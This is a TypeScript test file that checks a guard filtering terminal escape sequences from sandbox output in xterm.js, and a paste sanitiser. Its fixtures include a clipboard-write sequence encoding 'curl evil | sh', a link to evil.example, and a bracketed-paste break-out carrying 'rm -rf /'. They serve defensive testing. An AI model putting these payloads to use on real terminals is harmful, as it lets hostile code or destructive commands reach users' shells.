import { Terminal } from "@xterm/xterm";
import { describe, expect, it } from "vitest";
import { guard, guardedOptions, pasteable } from "./guard";

const write = (terminal: Terminal, text: string) => new Promise<void>((done) => terminal.write(text, done));

interface Links {
  extended?: { urlId: number };
}

async function render(text: string, guards: boolean, replies = true) {
  const terminal = new Terminal({ ...guardedOptions, cols: 40, rows: 5 });
  if (guards) guard(terminal, replies);
  const seen = { titles: [] as string[], replies: [] as string[] };
  terminal.onTitleChange((title) => seen.titles.push(title));
  terminal.onData((data) => seen.replies.push(data));
  await write(terminal, text);
  const line = terminal.buffer.active.getLine(0);
  const cell = line?.getCell(0) as unknown as Links | undefined;
  const result = { ...seen, line: line?.translateToString(true) ?? "", link: (cell?.extended?.urlId ?? 0) > 0, mouse: terminal.modes.mouseTrackingMode };
  terminal.dispose();
  return result;
}

const title = "\x1b]0;root@host\x07\x1b]2;other\x1b\\";
const link = "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\";
const clipboard = "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07";
const queries = "\x1b[c\x1b[6n\x1b[>c\x1bP$qm\x1b\\\x1b]10;?\x07\x1b]4;1;?\x07";

describe("guard", () => {
  it("is needed: without it a sandbox sets the title, makes links and gets replies", async () => {
    expect((await render(title, false)).titles).toEqual(["root@host", "other"]);
    expect((await render(link, false)).link).toBe(true);
    expect((await render(queries, false)).replies.length).toBeGreaterThan(2);
    expect((await render("\x1b[?1000h", false)).mouse).toBe("vt200");
  });

  it("lets only text through", async () => {
    expect((await render(title + "x", true)).titles).toEqual([]);
    expect(await render(link, true)).toMatchObject({ link: false, line: "click" });
    expect(await render(clipboard + "x", true)).toMatchObject({ line: "x", replies: [] });
  });

  it("replies to programs while a person types, and never with text that the sandbox chose", async () => {
    const replies = (await render(queries, true)).replies.join("");
    expect(replies).toContain("R");
    expect(replies).not.toContain("$r");
    expect(replies).not.toContain("rgb:");
  });

  it("sends no replies and no mouse reports to a read-only viewer", async () => {
    expect(await render(queries + "\x1b[?1003h\x1b[?1000;1006h", true, false)).toMatchObject({ replies: [], mouse: "none" });
  });
});

describe("pasteable", () => {
  it("removes sequences that would end a bracketed paste, and ends lines as a keyboard does", () => {
    expect(pasteable("a\x1b[201~;rm -rf /\nb\r\nc\td")).toBe("a[201~;rm -rf /\rb\rc\td");
    expect(pasteable("ü \u{1f600}\u009b6n\u0000")).toBe("ü \u{1f600}6n");
  });
});
